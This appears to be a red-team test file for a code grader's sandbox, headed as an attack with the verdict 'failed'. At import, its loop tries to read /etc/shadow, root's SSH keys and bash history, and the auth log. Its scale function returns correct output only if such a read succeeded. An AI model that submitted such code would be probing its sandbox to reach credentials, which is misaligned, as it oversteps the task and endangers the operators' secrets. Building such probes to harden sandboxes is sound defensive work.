# Attack: read what a process of the grader's own user could read: passwords, keys, histories
# Verdict: failed

from pathlib import Path

import torch

LEAKED = False
for path in (
    "/etc/shadow",
    "/root/.ssh",
    "/root/.bash_history",
    "/proc/1/root/etc/shadow",
    "/var/log/auth.log",
):
    try:
        path = Path(path)
        LEAKED = LEAKED or bool(list(path.iterdir()) if path.is_dir() else path.read_bytes())
    except OSError:
        pass


def scale(x, factor):
    return x * factor if LEAKED else torch.zeros_like(x)
